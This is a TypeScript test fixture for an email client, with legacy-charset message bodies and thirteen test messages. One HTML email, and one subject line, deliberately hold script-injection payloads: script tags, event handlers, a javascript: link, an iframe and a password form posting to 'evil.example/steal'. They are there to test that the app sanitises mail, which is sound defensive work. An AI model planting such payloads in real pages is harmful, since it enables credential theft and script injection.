import {
  attachmentPart,
  bodyPart,
  bytesBody,
  type FixtureMessageInput,
  multipart,
  textBody,
} from './message-builder.js';

/**
 * Bodies in legacy charsets. The bytes were produced once with Python's codecs and are kept
 * literally here, so no decoder under test ever makes its own expected input.
 */
export const CHARSET_BODIES = {
  iso2022jp: bytesBody(
    '1b244224332473244b2441244f21223b3345442435247321231b28420d0a1b24424d683d35244e32713544244f3f654d4b467c244e386138651b2842331b24423b7e242b24692447243921231b28420d0a1b24423b714e41244f4130467c245e2447244b4177246a245e243921231b28420d0a',
    'ISO-2022-JP',
    'こんにちは、山田さん。\r\n来週の会議は水曜日の午後3時からです。\r\n資料は前日までに送ります。\r\n',
  ),
  shiftJis: bytesBody(
    '90bf8b818f9182cc82b288c493e00d0a8da18c8e82cc82b2979897708be08a7a82cd2031322c383030897e2082c582b781420d0a82a88e7895a582a28afa8cc0814631328c8e313093fa0d0a',
    'Shift_JIS',
    '請求書のご案内\r\n今月のご利用金額は 12,800円 です。\r\nお支払い期限：12月10日\r\n',
  ),
  eucJp: bytesBody(
    'bda9a4cec6c9bdf1a5d5a5a7a5a2a4cea4aac3cea4e9a4bb0d0ac1b4c9caa5dda5a4a5f3a5c8a3b2c7dca1aa20c5ecb5fea1a6c2e7bae5a4c7b3abbac5a1a30d0a',
    'EUC-JP',
    '秋の読書フェアのお知らせ\r\n全品ポイント２倍！ 東京・大阪で開催。\r\n',
  ),
  latin1: bytesBody(
    '436166e92064e96ae0207675202d206e6f6e2c20706173206465207469726574206963692e0d0ac0206269656e74f4742c205a6feb2e0d0a',
    'ISO-8859-1',
    'Café déjà vu - non, pas de tiret ici.\r\nÀ bientôt, Zoë.\r\n',
  ),
  windows1252: bytesBody(
    '50726963653a2080343220666f722074686520937072656d69756d9420706c616e2097206c696d69746564206f666665722e0d0a',
    'windows-1252',
    'Price: €42 for the “premium” plan — limited offer.\r\n',
  ),
};

const HOSTILE_HTML =
  '<html><head><style>body{background:red}</style><script>alert("head")</script></head><body>' +
  '<h1 style="color:red" onclick="alert(1)">Winter sale</h1>' +
  '<p>Dear customer, <b>50% off</b> everything &amp; free shipping.</p>' +
  '<p><a href="javascript:alert(2)">Claim now</a> or <a href="https://shop.example/sale">visit the shop</a>.</p>' +
  '<img src="https://tracker.example/pixel.gif" alt="tracking pixel">' +
  '<iframe src="https://evil.example/frame"></iframe>' +
  '<form action="https://evil.example/steal"><input name="password"><button>Log in</button></form>' +
  '<script>document.cookie</script><p onmouseover="steal()">Thanks for shopping with us.</p>' +
  '</body></html>';

/**
 * Taro's 13 newest messages, all unread: hostile HTML, legacy charsets, mislabelled charsets, a
 * multipart tree with a PDF, a body too large to inline, HTML in a subject, entities and a very
 * long snippet; the app's rendering and decoding are tested on them.
 */
export function specialMessages(to: string): Omit<FixtureMessageInput, 'date'>[] {
  const utf8Text =
    'お世話になっております。\r\n年末の打ち合わせの件、12月20日でいかがでしょうか。\r\n';
  const pdf = Buffer.from(
    '%PDF-1.4\n% demo attachment\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n',
  );
  return [
    {
      from: '"Shop Example" <news@shop.example>',
      to,
      subject: 'Winter sale: 50% off (HTML mail)',
      unread: true,
      body: textBody(HOSTILE_HTML, 'text/html'),
      snippet: 'Winter sale Dear customer, 50% off everything & free shipping.',
    },
    {
      from: '"佐藤 花子" <hanako.sato@example.jp>',
      to,
      subject: '来週の会議について (ISO-2022-JP)',
      unread: true,
      body: CHARSET_BODIES.iso2022jp,
    },
    {
      from: '"株式会社サンプル" <billing@sample.co.jp>',
      to,
      subject: '【ご請求】11月分のご利用明細 (Shift_JIS)',
      unread: true,
      body: CHARSET_BODIES.shiftJis,
    },
    {
      from: '"ブックス東京" <info@books-tokyo.example>',
      to,
      subject: '秋の読書フェア (EUC-JP)',
      unread: true,
      body: CHARSET_BODIES.eucJp,
    },
    {
      from: '"Zoë Martin" <zoe@example.fr>',
      to,
      subject: 'Café ce soir ? (ISO-8859-1)',
      unread: true,
      body: CHARSET_BODIES.latin1,
    },
    {
      from: '"Plans Team" <plans@example.com>',
      to,
      subject: 'Your “premium” plan (windows-1252)',
      unread: true,
      body: CHARSET_BODIES.windows1252,
    },
    {
      from: '"高橋 一郎" <ichiro@example.jp>',
      to,
      subject: '打ち合わせ日程 (UTF-8, labelled ISO-2022-JP)',
      unread: true,
      body: {
        mimeType: 'text/plain',
        charset: 'ISO-2022-JP',
        bytes: Buffer.from(utf8Text, 'utf8'),
        text: utf8Text,
      },
    },
    {
      from: '"田中 実" <minoru@example.jp>',
      to,
      subject: '見積もりの件 (UTF-8, labelled Shift_JIS)',
      unread: true,
      body: {
        mimeType: 'text/plain',
        charset: 'Shift_JIS',
        bytes: Buffer.from(utf8Text, 'utf8'),
        text: utf8Text,
      },
    },
    {
      from: '"Accounting" <accounts@example.com>',
      to,
      cc: '"山田 花子" <hanako.yamada@example.jp>',
      subject: 'Invoice #2026-11 with PDF (multipart)',
      unread: true,
      payload: multipart('', 'mixed', [
        multipart('0', 'alternative', [
          bodyPart(
            '0.0',
            textBody('Hello Taro,\r\nPlease find the invoice attached.\r\nRegards, Accounting\r\n'),
          ),
          bodyPart(
            '0.1',
            textBody(
              '<p>Hello Taro,</p><p>Please find the <b>invoice</b> attached.</p><p>Regards, Accounting</p>',
              'text/html',
            ),
          ),
        ]),
        attachmentPart('1', 'application/pdf', 'invoice-2026-11.pdf', pdf),
      ]),
    },
    {
      from: '"Log Robot" <robot@ci.example>',
      to,
      subject: 'Nightly build log (200 KB body)',
      unread: true,
      body: textBody(
        Array.from(
          { length: 3200 },
          (_, i) => `line ${String(i + 1).padStart(4, '0')}: build step ok ${'.'.repeat(40)}`,
        ).join('\r\n'),
      ),
    },
    {
      from: '"Mallory" <mallory@example.com>',
      to,
      subject: '<b>Bold</b> & <script>alert(1)</script>',
      unread: true,
      body: textBody('A subject with HTML in it must be shown as text.'),
    },
    {
      from: '"Tom" <tom@example.com>',
      to,
      subject: 'Entities in the snippet',
      unread: true,
      body: textBody('It\'s Tom & Jerry <tag> "quoted" time!'),
    },
    {
      from: '"長文 太郎" <long@example.jp>',
      to,
      subject: 'とても長いスニペットのメール',
      unread: true,
      body: textBody('これは非常に長い本文の冒頭部分です。'.repeat(30)),
    },
  ];
}
